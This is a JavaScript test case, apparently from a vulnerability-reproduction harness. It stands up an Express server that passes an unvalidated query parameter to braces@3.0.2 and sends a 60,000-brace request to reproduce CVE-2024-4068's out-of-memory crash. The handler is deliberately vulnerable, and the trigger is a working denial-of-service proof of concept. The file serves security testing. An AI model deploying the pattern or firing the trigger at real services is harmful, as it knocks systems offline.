// Braces without their counterparts: the parser goes round and round, and allocates.
module.exports = {
  expects: "crash.oom",
  pkg: "braces@3.0.2",
  issue: "micromatch/braces#38 (CVE-2024-4068)",
  ms: 40_000,
  heapMb: 192,
  start() {
    const braces = require("braces");
    const app = require("express")();
    app.get("/health", (_request, response) => response.send("ok"));
    app.get("/match", (request, response) => {
      const pattern = `${"{".repeat(Number(request.query.depth))}a`;
      response.send(String(braces.expand(pattern, { maxLength: 1_000_000 }).length));
    });
    return app;
  },
  async trigger({ req, sleep }) {
    await req({ path: "/match?depth=0" });
    await req({ path: "/match?depth=60000", timeout: 38_000 });
    await sleep(100);
  },
};
